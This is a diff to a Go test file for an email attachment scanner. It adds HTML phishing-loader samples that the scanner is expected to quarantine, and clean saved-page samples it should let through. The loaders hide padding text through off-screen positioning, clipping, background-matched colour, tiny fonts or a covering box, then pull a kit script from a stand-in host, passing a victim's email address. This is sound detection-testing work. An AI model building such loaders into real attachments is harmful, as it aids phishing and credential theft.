@@ -202,7 +202,26 @@ func htmlPhishCases() []officeCase {
 		quarantine("html-loader-script-element", "HTML attachment whose script builds a script element whose address is joined from pieces",
 			"Purchase_Order.html", "<html><body>\r\n<script>\r\nvar s = document.createElement(\"script\");\r\n"+
 				"s.src = [\"https:\", \"\", \"landing.example.net\", \"kit\", \"po.js\"].join(\"/\");\r\ndocument.head.appendChild(s);\r\n</script></body></html>\r\n", "html-redirect-attachment"),
+		// Loaders padded with text Chromium does not show the reader.
+		quarantine("html-loader-padding-offscreen", "HTML loader padded with text a style sheet class moves far off the screen (position:absolute; left:-9999px)",
+			"Remittance_Advice.html", paddedLoader(".pad{position:absolute;left:-9999px;top:0}", `<div class="pad">`, `</div>`), "html-redirect-attachment"),
+		quarantine("html-loader-padding-clipped", "HTML loader padded with text clipped to nothing (clip:rect(0 0 0 0) by id, clip-path:inset(50%) inline)",
+			"Remittance_Advice.html", paddedLoader("#pad{position:absolute;clip:rect(0 0 0 0)}", `<div id="pad">`, `</div><div style="clip-path:inset(50%)">Remittance advice for invoice 4471.</div>`), "html-redirect-attachment"),
+		quarantine("html-loader-padding-colour", "HTML loader padded with text in the colour of the page's background, written another way (#f3f2f1 against rgb(243, 242, 241))",
+			"Remittance_Advice.html", paddedLoader("body{background:#f3f2f1}.pad{color:rgb(243, 242, 241)}", `<div class="pad">`, `</div>`), "html-redirect-attachment"),
+		quarantine("html-loader-padding-tiny", "HTML loader padded with text of a 1px font, its first lines indented off the screen",
+			"Remittance_Advice.html", paddedLoader(".pad p{font-size:1px}", `<div class="pad" style="text-indent:-9999px">`, `</div>`), "html-redirect-attachment"),
+		quarantine("html-loader-padding-covered", "HTML loader whose padding lies under an opaque box fixed across the window, into which the kit draws",
+			"Remittance_Advice.html", paddedLoader(".cover{position:fixed;inset:0;background:#fff;z-index:100}", `<div>`, `</div><div class="cover" id="kit"></div>`), "html-redirect-attachment"),
 	}, append(htmlFoldCases(), htmlKitCases()...)...)
+}
+
+// paddedLoader is a loader page (its kit from landing.example.net) with a
+// style sheet and the padding between open and close.
+func paddedLoader(css, open, close string) string {
+	return "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Remittance advice</title><style>" + css + "</style></head><body><div id=\"root\">Loading...</div>\r\n" +
+		open + strings.Repeat("<p>Remittance advice for invoice 4471, payment of 12 November.</p>", 12) + close +
+		"\r\n<script src=\"https://landing.example.net/kit/app.js?e=kenji@corp.example.jp\"></script></body></html>\r\n"
 }
 
 // htmlCase is an HTML attachment sent as a shared document, quarantined
@@ -246,6 +265,30 @@ func htmlPhishClean() []Sample {
 				"<iframe src=\"https://video.example.org/embed/kensa\" width=\"560\" height=\"315\" allowfullscreen></iframe>\r\n"+
 				"<button class=\"btn\" onclick=\"location.href='https://shop.example.com/'\">Visit the shop</button>\r\n"+
 				"<script>function more(){ window.location.href = \"https://shop.example.com/news\"; }</script></body></html>\r\n")))})
+	// Saved pages that hide a little from the reader, and their site's
+	// own scripts: they show their text, so they are no loaders.
+	var article strings.Builder
+	for i := 1; i <= 5; i++ {
+		article.WriteString("<p class=\"text\">The beach project moved on this month: new fittings, a second pier and photos from the site visit.</p>\r\n")
+	}
+	site := "<script src=\"https://www.shop.example.com/static/site.js\"></script>"
+	add(ok("html-saved-article-accessible", "a saved article with a skip link, screen-reader text (.sr-only, .visually-hidden) and a cookie banner, and its site's own script"),
+		mail{subject: "The article", root: multipart("mixed", text("The article, saved as a page.\n"),
+			attach("text/html; charset=utf-8", "beach-project.html", []byte("<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>The beach project</title><style>"+
+				".sr-only{position:absolute;width:1px;height:1px;padding:0;margin:-1px;overflow:hidden;clip:rect(0,0,0,0);white-space:nowrap;border:0}"+
+				".visually-hidden:not(:focus){position:absolute!important;width:1px!important;height:1px!important;overflow:hidden!important;clip-path:inset(50%)!important}"+
+				".skip-link{position:absolute;left:-9999px}.skip-link:focus{left:0}"+
+				".cookie{position:fixed;bottom:0;left:0;width:100%;background:#222;color:#fff;padding:12px}</style></head>\r\n"+
+				"<body><a class=\"skip-link\" href=\"#main\">Skip to content</a><nav><span class=\"sr-only\">Main menu</span><a href=\"https://www.shop.example.com/\">Home</a></nav>\r\n"+
+				"<main id=\"main\"><h1>The beach project</h1>"+article.String()+"<span class=\"visually-hidden\">End of article</span></main>\r\n"+
+				"<div class=\"cookie\">We use cookies to keep you signed in. <button>Accept</button></div>"+site+"</body></html>\r\n")))})
+	add(ok("html-saved-page-styled", "a saved page whose text is dark on light through CSS classes, with a dark card and a heading on a picture, and its site's own script"),
+		mail{subject: "The article", root: multipart("mixed", text("The article, saved as a page.\n"),
+			attach("text/html; charset=utf-8", "beach-project-styled.html", []byte("<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>The beach project</title><style>"+
+				"body{background:#ffffff}.text{color:#1a1a1a}.card{background:#1e1e1e;color:#f5f5f5;padding:8px}"+
+				".hero{background:#fff url(https://www.shop.example.com/img/pier.jpg) center/cover;height:200px}.hero h1{color:#fff}"+
+				"@media print{.card{display:none}}</style></head>\r\n"+
+				"<body><div class=\"hero\"><h1>The beach project</h1></div>"+article.String()+"<div class=\"card\">Visit the site office on Fridays.</div>"+site+"</body></html>\r\n")))})
 	add(ok("html-exported-report", "an exported report (.html) with a feedback form to the sender's own site and an analytics fetch, no password field"),
 		mail{subject: "Weekly report", root: multipart("mixed", text("This week's report.\n"),
 			attach("text/html; charset=utf-8", "weekly-report.html", []byte("<html><body><h1>Weekly sales report</h1><table>"+items.String()+"</table>\r\n"+
